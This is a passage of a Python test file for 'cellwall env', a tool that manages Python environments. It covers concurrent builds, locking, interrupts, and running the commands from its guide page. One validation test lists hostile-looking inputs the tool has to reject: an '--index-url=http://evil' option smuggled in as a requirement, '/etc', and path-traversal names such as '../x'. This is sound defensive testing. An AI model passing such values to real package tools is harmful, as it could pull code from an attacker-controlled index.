    for name, hosts in (("host", ["127.0.0.1"]), ("port", [f"127.0.0.1:{port}"]), ("all", None)):
        made = create(name, {"hosts": hosts})
        assert made.returncode == 0 and index.asked, made.stdout + made.stderr


def test_words_that_are_no_requirements(store):
    for word in ("-e .", "--index-url=http://evil", "#x", "/etc", "a\nb"):
        assert store.env("create", "x", "--", word).returncode == 1
    for name in ("../x", "", ".x", "a/b", "x" * 65):
        assert store.env("create", "--", name, "plain").returncode == 1
    assert "there is no environment" in store.env("show", "nothing").stderr
    assert store.env("frobnicate").returncode == 2


def test_two_builds_of_one_name(store):
    builds = [begin(store, "create", "two", "--python", PYTHON, "--no-kernel", "plain") for _ in range(2)]
    said = [build.communicate(timeout=120 * harness.PATIENCE)[0] for build in builds]
    codes = sorted(build.returncode for build in builds)
    assert codes in ([0, 1], [0, 0]), said
    assert codes == [0, 0] or any("being built" in text or "already" in text for text in said), said
    store.env("verify", "two", check=True)


def test_two_names_at_once_and_what_waits_for_what(store):
    store.place.mkdir(parents=True)
    path = store.place / "lock"
    path.touch(0o600)

    def has_come(build):
        with contextlib.suppress(OSError):
            if str(path.resolve()) in map(os.readlink, pathlib.Path(f"/proc/{build.pid}/fd").iterdir()):
                return True
        return build.poll() is not None

    with path.open() as lock:
        # while old trees are removed, builds wait
        fcntl.flock(lock, fcntl.LOCK_EX)
        builds = [begin(store, "create", name, "--python", PYTHON, "--no-kernel", "plain") for name in ("one", "two")]
        assert processes.wait_until(lambda: all(has_come(build) for build in builds), 60 * harness.PATIENCE)
        fcntl.flock(lock, fcntl.LOCK_UN)
        said = [build.communicate(timeout=120 * harness.PATIENCE)[0] for build in builds]
        assert [build.returncode for build in builds] == [0, 0], said
        assert store.tree("one") == store.tree("two") and left_over(store) == []
        # while something is built, another is removed all the same; its room is free later
        fcntl.flock(lock, fcntl.LOCK_SH)
        removed = store.env("remove", "two")
        assert removed.returncode == 0 and "cellwall env gc, when that is done" in removed.stdout and "two " not in store.env("list").stdout
        refused = store.env("gc")
        assert refused.returncode == 1 and "try again when that is done" in refused.stderr
    store.env("gc", check=True)
    store.env("verify", "one", check=True)


def test_interrupt(store):
    build = begin(store, "create", "stop", "--python", PYTHON, "--no-kernel", "plain")
    time.sleep(1)
    build.send_signal(signal.SIGINT)
    out, _ = build.communicate(timeout=60)
    assert build.returncode in (130, 0), out
    assert left_over(store) == []


def test_the_guide(site, store, index):
    """Every command of the page, in its order, with packages of the same names."""
    for name in ("pandas", "ipykernel", "plotly"):
        index.files[f"{name}-1-py3-none-any.whl"] = wheel(name, "1", {f"{name}.py": ""})
    with zipfile.ZipFile(site.root / "advisories.zip", "w") as out:
        out.writestr("E-1.json", json.dumps(advisory("E-1", "pandas", [{"introduced": "0"}, {"fixed": "1.1"}])))
    text, said = page(site), {}
    store.environment["PATH"] = os.path.dirname(os.environ.get("CELLWALL_UV", "")) + ":" + os.environ["PATH"]
    for words in (("create", "notebook-5db8ae9991670e78", "--no-kernel", "--python", PYTHON, "plain==1.0"), ("update", "notebook-5db8ae9991670e78", "plain")):
        store.env(*words, check=True)  # what cells had installed is one like any other
    ran = 0
    for block in re.findall(r"^```console\n(.*?)^```", text, re.M | re.S):
        for line in block.splitlines():
            words = line.split()
            assert words[:2] == ["$", "cellwall"], line
            words[2:] = [str(site.root / word) if word.endswith((".bundle", ".zip")) else word for word in words[2:]]
            if words[2] == "install":
                words += ["--prefix", str(site.root / "guide"), "--shared-environment"]
            if words[2:4] == ["env", "usage"]:
                (store.place / "usage").mkdir(exist_ok=True)
                (store.place / "usage" / "course.json").write_text('{"runs": 1, "modules": {"pandas": "2026-01-01"}}')
            if words[2:4] == ["env", "create"]:
                words += ["--python", PYTHON]
            result = site.run(*words[2:], env=store.environment, timeout=120 * harness.PATIENCE)
            expected = 1 if words[2:4] in (["env", "diff"], ["env", "audit"]) else 0
            assert result.returncode == expected, (line, result.stdout, result.stderr)
            said.setdefault(tuple(words[2:4]), result.stdout)
            ran += 1
    assert ran >= 17
    # and what the page shows of them is what they say
    for words, first in ((("env", "create"), "Collecting pandas"), (("env", "usage"), "# course: what 12 kernels said at their end that they "
                          "imported, with what it needs")):
        assert shown_as(text, first, said[words]) == [], said[words]
    assert f"\n```text\n{said['env', 'audit']}```\n" in text, said["env", "audit"]
